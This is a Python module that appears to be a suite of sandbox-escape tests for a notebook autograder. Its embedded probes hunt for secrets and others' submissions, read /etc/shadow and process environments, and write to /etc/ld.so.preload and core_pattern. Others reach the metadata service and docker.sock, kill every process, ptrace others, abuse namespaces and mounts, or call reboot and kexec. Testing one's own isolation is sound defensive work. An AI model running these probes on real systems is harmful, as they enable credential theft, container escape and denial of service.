"""Attacks on the walls: what else is on this machine, and can it be read, written or reached?"""

from __future__ import annotations

from attacks.lab import ALL, NONE, Attack, on_blank, on_solved

LOOK = """
skip = ("/usr", "/proc", "/sys", "/lib", sys.prefix, sys.base_prefix)
for folder, folders, files in os.walk("/"):
    folders[:] = [d for d in folders if not os.path.join(folder, d).startswith(skip)]
    for name in files:
        path = os.path.join(folder, name)
        try:
            if os.path.isfile(path) and os.path.getsize(path) < 1 << 20:
                text = open(path, "rb").read().decode(errors="replace")
        except OSError:
            continue
        if name.endswith((".db", ".ipynb", "secret", ".csv")) or "canary" in text:
            won(path, text[:3000])
for path in ("@ROOM@", "@ROOM@/secret", "@ROOM@/gradebook.db", "@ROOM@/submitted", "/root", "/home",
             os.path.expanduser("~root"), "@ROOM@/../..", "/proc/1/root@ROOM@/secret",
             "/proc/1/cwd/secret", "/etc/passwd", "/etc/shadow", "/var", "/mnt", "/run"):
    if any(prefix.startswith(path + "/") for prefix in (sys.prefix, sys.base_prefix)):
        continue  # where Python itself lies: the folders above it are there, and empty but for it
    try:
        won(path, os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(2000))
    except OSError:
        pass
"""
PROC = """
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    print(path, open(path, "rb").read().replace(b"\\0", b" ").decode(errors="replace"))
for path in ("/proc/keys", "/proc/key-users", "/proc/self/mountinfo", "/proc/net/unix",
             "/proc/self/status", "/proc/1/status", "/proc/sysvipc/shm", "/proc/locks"):
    try:
        print(open(path).read()[:20000])
    except OSError as error:
        print(path, error)
pids = [p for p in os.listdir("/proc") if p.isdigit()]
print(len(pids), "processes")
if len(pids) > 60:
    won("the processes of others")
"""
WRITE = """
targets = [sys.executable, "/course/autograde/student/check.py", f"{sys.prefix}/x", "/usr/x",
           f"{sys.base_prefix}/x", "@ROOM@/x", "/etc/ld.so.preload", "/etc/x", "/var/x"]
targets += ["/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches", "/proc/sysrq-trigger",
            "/proc/1/oom_score_adj", "/sys/kernel/uevent_helper", "/proc/1/mem"]
for path in targets:
    try:
        os.close(os.open(path, os.O_WRONLY | (0 if path.startswith("/proc") else os.O_CREAT)))
        if not path.startswith("/proc/1/"):
            won(path, "can be written")
    except OSError:
        pass
"""
NETWORK = """
def calls(kind, where, say="it got out"):
    try:
        with socket.socket(kind) as s:
            s.settimeout(1)
            s.connect(where)
            s.sendall(b"hello")
        won(say, where)
    except OSError:
        pass
for where in (("127.0.0.1", int("@PORT@")), ("1.1.1.1", 53), ("169.254.169.254", 80)):
    calls(socket.AF_INET, where)
calls(socket.AF_INET6, ("::1", int("@PORT@")))
calls(socket.AF_UNIX, "\\0" + "@ABSTRACT@")
for line in open("/proc/net/unix").read().splitlines()[1:]:
    name = line.split()[-1]
    if name.startswith("@") and "@ABSTRACT@" in name:
        won(name)
for path in ("/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0"):
    calls(socket.AF_UNIX, path)
for family, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW),
                     (getattr(socket, "AF_VSOCK", 40), socket.SOCK_STREAM)):
    try:
        s = socket.socket(family, kind)
        s.settimeout(1)
        if family == getattr(socket, "AF_VSOCK", 40):
            s.connect((2, 22)); won("a socket of the machine's host")
    except (OSError, ValueError):
        pass
try:
    socket.getaddrinfo("example.com", 80); won("names are found")
except OSError:
    pass
"""
SIGNALS = """
me = os.getpid()
for pid in [1, os.getppid(), *range(2, me), -1]:
    for number in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(pid, number)
        except OSError:
            pass
"""
PTRACE = """
for path in glob.glob("/proc/[0-9]*"):
    pid = int(path.split("/")[2])
    if pid != os.getpid() and libc.ptrace(16, pid, 0, 0) == 0:
        os.waitpid(pid, 0x40000000)
        for name in ("@ROOM@/secret", "@ROOM@/gradebook.db"):
            if os.path.exists(f"/proc/{pid}/root{name}"):
                won(name)
        libc.ptrace(17, pid, 0, 0)
"""
KEYRINGS = """
buffer = ctypes.create_string_buffer(4096)
for ring in (-1, -2, -3, -4, -5):
    size = libc.syscall(250, 11, ctypes.c_long(ring), buffer, 4096, 0)
    for k in range(0, max(0, size), 4):
        key = int.from_bytes(buffer.raw[k : k + 4], "little", signed=True)
        text = ctypes.create_string_buffer(4096)
        if libc.syscall(250, 11, ctypes.c_long(key), text, 4096, 0) > 0 and (
            b"canary" in text.raw or b"left-by-one" in text.raw
        ):
            won("keyring", text.value)
    libc.syscall(248, b"user", b"left-here", b"left-by-one", 11, ctypes.c_long(ring))
"""
SHARED = """
for key in (0x0A77AC, 1234):
    shm = libc.shmget(key, 64, 0o1666)
    libc.shmat.restype = ctypes.c_void_p
    place = libc.shmat(shm, None, 0) if shm >= 0 else None
    if place and place != ctypes.c_void_p(-1).value:
        text = ctypes.string_at(place, 11)
        if text == b"left-by-one":
            won("shared memory")
        ctypes.memmove(place, b"left-by-one", 11)
queue = libc.syscall(240, b"attack", os.O_RDWR | os.O_CREAT | os.O_NONBLOCK, 0o666, None)
if queue >= 0:
    buffer = ctypes.create_string_buffer(8192)
    if libc.syscall(243, queue, buffer, 8192, None, None) > 0:
        won("message queue", buffer.value)
    libc.syscall(242, queue, b"left-by-one", 11, 0, None)
for folder in {"/dev/shm", "/tmp", "/var/tmp", "/dev/mqueue", os.environ["HOME"], "/course"}:
    try:
        if os.path.exists(folder + "/left-by-one"):
            won(folder)
        open(folder + "/left-by-one", "w").write("x")
    except OSError:
        pass
try:
    listener = socket.socket(socket.AF_UNIX)
    listener.bind("\\0left-by-one")
    listener.listen()
except OSError:
    won("abstract socket")
"""
WATCH = """
fd = libc.inotify_init1(os.O_NONBLOCK)
for folder in ("/", "/tmp", "/dev/shm", "/course", "@ROOM@", "/root", "/proc"):
    libc.inotify_add_watch(fd, folder.encode(), 0xFFF)
fan = libc.syscall(300, 0, 0)
if fan >= 0 and libc.syscall(301, fan, 0x10 | 1, ctypes.c_ulong(0x20), -100, b"/usr") == 0:
    won("fanotify")
time.sleep(1)
try:
    events = os.read(fd, 1 << 16)
    names = re.findall(rb"room-[a-z0-9_]+|[a-z0-9-]+\\.ipynb", events)
    if any(n.decode() not in os.environ["AUTOGRADE_" + "ROOM"] for n in names):
        won("what others do", names)
except OSError:
    pass
"""
CHILD = """
def in_a_child(function):  # prints there would wait for the kernel
    read, write = os.pipe()
    if os.fork() == 0:
        try:
            os.write(write, repr(function()).encode())
        finally:
            os._exit(0)
    os.close(write)
    said = open(read, "rb").read().decode()
    os.wait()
    return said
def new_namespaces(kinds):
    libc.unshare(kinds)
    for name, text in (("setgroups", "deny"), ("uid_map", "0 0 1"), ("gid_map", "0 0 1")):
        try:
            open("/proc/self/" + name, "w").write(text)
        except OSError:
            pass
"""
NEW_NAMESPACES = (
    CHILD
    + """
def inside():
    os.makedirs("/tmp/p", exist_ok=True)
    libc.mount(b"proc", b"/tmp/p", b"proc", 0, None)
    libc.mount(None, b"/proc", None, 32, None)
    libc.mount(None, b"/", None, 32 | 4096, None)
    for place in ("/course/autograde/student/public", "/tmp", "/dev/shm", "/proc", "/"):
        libc.umount2(place.encode(), 2)
    found = glob.glob("/course/autograde/student/public/*.json")
    found += [p for p in ("@ROOM@/secret", "/root/.ssh", "/etc/shadow") if os.path.exists(p)]
    for proc in ("/tmp/p", "/proc"):
        try:
            os.close(os.open(proc + "/sys/kernel/core_pattern", os.O_WRONLY))
            found.append("core_pattern")
        except OSError:
            pass
    for folder in ("/usr", "/course"):
        try:
            os.close(os.open(folder + "/new", os.O_WRONLY | os.O_CREAT))
            found.append(folder)
        except OSError:
            pass
    return found
def outside():
    new_namespaces(0x10000000 | 0x00020000 | 0x20000000)
    return in_a_child(inside)
found = in_a_child(outside)
if "/" in found or "core" in found:
    won("in namespaces of one's own", found)
print(found)
"""
)
OWN_DISK = (
    CHILD
    + """
def fill():
    new_namespaces(0x10000000 | 0x00020000)
    os.makedirs("/tmp/m", exist_ok=True)
    total = 0
    if libc.mount(b"tmpfs", b"/tmp/m", b"tmpfs", 0, b"size=8g") == 0:
        for k in range(120):
            try:
                total += open(f"/tmp/m/{k}", "wb").write(b"x" * (30 << 20))
            except OSError:
                break
        time.sleep(1)
    return total
total = int(in_a_child(fill) or 0)
print(total)
if total > 3 << 30:
    won("a disk in memory without a bound", total)
"""
)
SETUID = """
status = open("/proc/self/status").read()
if "NoNewPrivs:\\t1" not in status:
    won("new privileges may be gained")
if int(re.search(r"CapEff:\\s*(\\w+)", status)[1], 16) or int(re.search(r"CapBnd:\\s*(\\w+)", status)[1], 16):
    won("capabilities")
for program in ("su -c id", "sudo -n id", "mount", "newgrp", "pkexec id", "unshare -r id"):
    subprocess.run(program.split(), stdin=subprocess.DEVNULL, capture_output=True, timeout=5) \\
        if os.path.exists("/usr/bin/" + program.split()[0]) else None
for call in ((90, b"/", 0o777), (92, b"/tmp", 0, 0)):
    libc.syscall(*call)
for path in (b"/tmp/sda", b"/tmp/mem"):
    libc.mknod(path, 0o60666 if b"sda" in path else 0o20666, os.makedev(8, 0) if b"sda" in path else os.makedev(1, 1))
    try:
        os.close(os.open(path, os.O_RDONLY)); won("a device")
    except OSError:
        pass
"""
CALLS = """
ring = libc.syscall(425, 8, ctypes.create_string_buffer(240))
libc.syscall(321, 0, ctypes.create_string_buffer(128), 128)
libc.syscall(298, ctypes.create_string_buffer(128), -1, 0, -1, 0)
libc.syscall(175, None, 0, b"")
libc.syscall(246, 0, 0, None, 0)
libc.syscall(323, 0)
page = libc.syscall(310, os.getppid(), None, 0, None, 0, 0)
for number in (169, 167, 170, 171, 172):
    libc.syscall(number, 0, 0, 0, 0)
try:
    socket.sethostname("left-by-one")
except OSError:
    pass
"""
CORE = """
import resource
for hard in (resource.RLIM_INFINITY, 1 << 30):
    try:
        resource.setrlimit(resource.RLIMIT_CORE, (hard, hard)); won("a core may be dumped")
    except (ValueError, OSError):
        pass
os.chdir(os.environ["AUTOGRADE_" + "ROOM"])
os.abort()
"""

ATTACKS: tuple[Attack, ...] = (
    on_solved("look", "Looks for the class, others' work and secrets on the disk.", LOOK),
    on_solved("proc", "Prints environments and command lines of all processes.", PROC),
    on_solved("write", "Writes to Python, the course and the machine's settings.", WRITE),
    on_solved("network", "Calls out over every kind of socket.", NETWORK),
    Attack(
        "signals",
        "Kills every process it can name.",
        lambda ground: ground.notebook(True, first=[SIGNALS]),
        ALL,
    ),
    Attack(
        "signals-late",
        "Kills the processes that wait to be judged: its own loss.",
        lambda ground: ground.notebook(True, last=[SIGNALS]),
        NONE,
        slow=True,
    ),
    on_solved("ptrace", "Attaches to other processes as a debugger.", PTRACE),
    on_solved("keyrings", "Reads the keyrings of the user, and leaves a word there.", KEYRINGS),
    on_blank("keyrings-2", "Reads the word that a friend left in a keyring.", KEYRINGS),
    on_solved("shared-1", "Leaves a word in memory, queues and files for a friend.", SHARED),
    on_blank("shared-2", "Reads the word that a friend left.", SHARED),
    on_solved("watch", "Watches files of others by inotify and fanotify.", WATCH),
    on_solved("namespaces", "Mounts and unmounts in namespaces of its own.", NEW_NAMESPACES),
    on_solved("own-tmpfs", "Mounts a disk in memory that nobody counts.", OWN_DISK),
    on_solved("setuid", "Gains rights by programs, modes and device files.", SETUID),
    on_solved("calls", "io_uring, bpf, perf, userfaultfd, modules, kexec, reboot.", CALLS),
    on_solved("core", "Dumps its core.", CORE, told=("kernel-died",)),
)
